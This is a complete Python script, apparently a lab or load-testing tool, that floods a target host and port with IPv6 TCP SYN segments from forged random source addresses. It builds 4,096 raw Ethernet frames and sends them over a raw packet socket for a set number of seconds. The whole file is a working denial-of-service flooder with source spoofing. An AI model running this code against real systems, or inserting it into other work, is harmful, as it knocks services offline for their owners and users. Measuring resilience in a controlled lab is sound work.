"""Sends TCP SYN segments over IPv6 from forged sources as fast as it can; a program of its own.

``python forge.py DEVICE TARGET-MAC TARGET PORT SECONDS``: hping3 has no IPv6 and nping no random IPv6 sources.
4,096 frames are made before the first is sent; the flood ends after the seconds whatever happens.
"""

from __future__ import annotations

import random
import socket
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "live"))

import frames

_FRAMES = 4096


def made(own: bytes, other: bytes, target: str, port: int) -> list[bytes]:
    chance = random.Random(6)
    found = []
    for _ in range(_FRAMES):
        words = [f"{chance.getrandbits(16):x}" for _ in range(6)]
        source = ":".join(["2001", "db9", *words])
        segment = frames.tcp(
            source, target, chance.randrange(1024, 65536), port, frames.SYN, chance.getrandbits(32)
        )
        found.append(other + own + b"\x86\xdd" + frames.ip6(source, target, segment))
    return found


def main() -> None:
    device, mac, target, port, seconds = sys.argv[1:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((device, 0))
        own = wire.getsockname()[4]
        packets = made(own, bytes.fromhex(mac.replace(":", "")), target, int(port))
        deadline_s = time.monotonic() + float(seconds)
        sent = 0
        while time.monotonic() < deadline_s:
            for packet in packets:
                wire.send(packet)
            sent += len(packets)
    print(f"{sent} segments")


if __name__ == "__main__":
    main()
